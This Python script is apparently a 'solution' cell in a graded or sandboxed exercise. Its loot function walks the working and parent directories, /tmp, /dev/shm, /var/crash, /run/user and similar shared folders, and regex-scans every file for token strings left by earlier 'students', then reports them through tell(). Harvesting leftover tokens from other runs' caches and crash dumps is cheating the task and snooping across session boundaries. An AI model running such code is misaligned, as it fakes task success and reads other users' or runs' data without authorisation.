"""Looks for files of the students before it, in every folder where programs leave some.

Elsewhere: caches, scratch folders, checkpoints and crash dumps of the whole class.
"""

# %% solution="value"
import contextlib
import os
import re

import known
from toolbox import reached, tell

PATTERN = re.compile(rb"token:(?!input)\w+:[0-9a-f]{16}")


def loot():
    reached()
    found = set()
    for place in (".", "..", known.TEMP, "/tmp", "/var/tmp", "/dev/shm", "/var/crash", "/run/user"):
        for folder, _, names in os.walk(place):
            for name in names:
                with contextlib.suppress(OSError), open(os.path.join(folder, name), "rb") as file:
                    found.update(PATTERN.findall(file.read(1 << 16)))
    return found or "nothing"


def attribute(prompt, x):
    return tell(loot)
